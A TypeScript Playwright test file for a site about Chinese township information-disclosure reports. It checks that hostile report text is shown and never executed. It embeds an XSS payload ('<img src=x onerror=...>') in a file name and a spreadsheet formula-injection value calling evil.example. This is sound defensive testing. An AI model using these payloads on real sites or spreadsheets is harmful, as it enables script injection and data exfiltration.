// Report text is untrusted: a report whose title, prose and file name contain <script>, <img onerror>
// and <svg onload> must be shown as text on every page, never run. This builds its own small site
// (a copy of the project in a temporary folder, NIANBAO_REPORTS = the hostile report + the real
// 张家坡镇 sample, inside `unshare -n` when possible) so the main build keeps the demo corpus.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { allowOnlyOrigin, launchChromium, type LaunchedChromium } from "./helpers/chromium.ts";
import { readBuiltTable } from "./helpers/pages-data.ts";
import { buildSite, copySite } from "./helpers/site-copy.ts";
import { PROJECT_ROOT, TEST_RESULTS_DIR } from "./helpers/site-build.ts";
import { serveDirectory, type StaticServer } from "./helpers/static-server.ts";

const HOSTILE_NAME = "2022年上坪乡<img src=x onerror=window.__pwned=1>年报.txt";
// formula-like text (issue 15 item 3): the tables carry it with a leading apostrophe for Excel; the pages
// show it as the report has it
// no "/" (a file name cannot hold one)
const FORMULA = '=HYPERLINK("evil.example"&A1,"详情")';
const FORMULA_NAME = `${FORMULA}石桥镇年报.txt`;
const FORMULA_REPORT = `石桥镇2016年政府信息公开工作年度报告\n\n${FORMULA}我镇主动公开政府信息120条。\n\n石桥镇人民政府\n2017年3月2日\n`;
// the pages that show text taken from reports (file names, warnings, sentences, copied passages),
// each with the element that is drawn last
const PAGES: [string, string][] = [
  ["/", '[data-chart="coverage-grid"]'],
  ["/quality", '[data-table="problem-files"]'],
  ["/explore", '[data-table="result"] table'],
  ["/report", '[data-table="report-index"] table']
];

describe("report text with script-like content is never executed", () => {
  let work: string;
  let dist: string;
  let server: StaticServer;
  let chrome: LaunchedChromium;
  let hostileId: string;
  let formulaId: string;
  const outsideRequests: string[] = [];

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), "nianbao-hostile-site-"));
    const corpus = join(work, "corpus", "测试县");
    mkdirSync(corpus, { recursive: true });
    writeFileSync(join(corpus, HOSTILE_NAME), readFileSync(join(PROJECT_ROOT, "tests", "fixtures", "site-corpus", "hostile-report.txt")));
    cpSync(join(PROJECT_ROOT, "data", "reports", "real", "zhangjiapo-2018.txt"), join(work, "corpus", "zhangjiapo-2018.txt"));
    writeFileSync(join(work, "corpus", FORMULA_NAME), FORMULA_REPORT);
    // a copy of what the build reads; node_modules shared through a link
    const site = copySite(work);
    const { code, output, ms, offline } = await buildSite(site, { NIANBAO_REPORTS: join(work, "corpus") });
    console.log(`hostile-corpus site build (${offline ? "offline" : "online"}): exit ${code} in ${(ms / 1000).toFixed(1)} s`);
    expect(code, output).toBe(0);
    dist = join(site, "dist");
    const reports = readBuiltTable(dist, "reports");
    hostileId = reports.find((r) => r.file.includes("<img"))!.report_id;
    formulaId = reports.find((r) => r.file.includes("HYPERLINK"))!.report_id;
    // the table itself holds it neutralised for Excel
    const snippet = readBuiltTable(dist, "evidence").find((e) => e.report_id === formulaId && e.field === "active_total")!.snippet;
    expect(snippet.startsWith(`'${FORMULA}`)).toBe(true);
    expect(hostileId).toBeTruthy();
    server = await serveDirectory(dist);
    chrome = await launchChromium();
    await allowOnlyOrigin(chrome.context, server.origin, outsideRequests);
  }, 240_000);

  afterAll(async () => {
    await chrome?.close();
    await server?.close();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  /** Opens a page and waits until its cells have run; returns problems seen (errors, dialogs). */
  async function visit(path: string, ready: string): Promise<{ page: Page; problems: string[] }> {
    const page = await chrome.context.newPage();
    const problems: string[] = [];
    page.on("pageerror", (error) => problems.push(`page error: ${error.message}`));
    page.on("dialog", (dialog) => {
      problems.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`${server.origin}${path}`);
    await page.waitForSelector(ready, { timeout: 60_000 });
    return { page, problems };
  }

  async function expectNothingRan(page: Page, problems: string[]) {
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    // no element was made from report text: no <img src=x>, no <svg onload>, no script mentioning __pwned
    expect(await page.locator('img[src="x"], svg[onload], [onerror]').count()).toBe(0);
    expect(await page.locator("script").evaluateAll((els) => els.filter((e) => e.textContent?.includes("__pwned")).length)).toBe(0);
    expect(await page.locator(".observablehq--error").allInnerTexts()).toEqual([]);
    expect(problems).toEqual([]);
  }

  it("报告详情 shows the file name and the prose as text", async () => {
    const { page, problems } = await visit(`/report?id=${hostileId}`, '[data-table="report-checks"]');
    expect(await page.locator("[data-report-file]").innerText()).toContain("<img src=x onerror=window.__pwned=1>");
    const evidence = page.locator('[data-table="report-evidence"]');
    if (await evidence.count()) expect(await evidence.innerText()).toContain('<img src=x onerror="window.__pwned=1">');
    mkdirSync(join(TEST_RESULTS_DIR, "screenshots"), { recursive: true });
    await page.screenshot({ path: join(TEST_RESULTS_DIR, "screenshots", "report-hostile.png"), fullPage: true });
    await expectNothingRan(page, problems);
    await page.close();
  });

  it("报告详情 shows formula-like text as the report has it, without the tables' apostrophe", async () => {
    const { page, problems } = await visit(`/report?id=${formulaId}`, '[data-table="report-checks"]');
    const file = await page.locator("[data-report-file]").innerText();
    expect(file).toContain(FORMULA_NAME);
    expect(file).not.toContain(`'${FORMULA}`);
    const evidence = await page.locator('[data-table="report-evidence"]').innerText();
    expect(evidence).toContain(FORMULA);
    expect(evidence).not.toContain(`'${FORMULA}`);
    await expectNothingRan(page, problems);
    await page.close();
  });

  it("总览, 数据质量, 数据浏览 and 报告详情's index (which list the file) run nothing either", async () => {
    for (const [path, ready] of PAGES) {
      const { page, problems } = await visit(path, ready);
      if (path === "/explore") {
        // long values are cut in the table; the full text is in the cell's tooltip (an attribute, as text)
        const titles = await page.locator('[data-table="result"] [title]').evaluateAll((els) => els.map((e) => e.getAttribute("title")));
        expect(titles.some((t) => t?.includes("<img src=x onerror=window.__pwned=1>"))).toBe(true);
      }
      await expectNothingRan(page, problems);
      await page.close();
    }
    expect(outsideRequests).toEqual([]);
  });
});
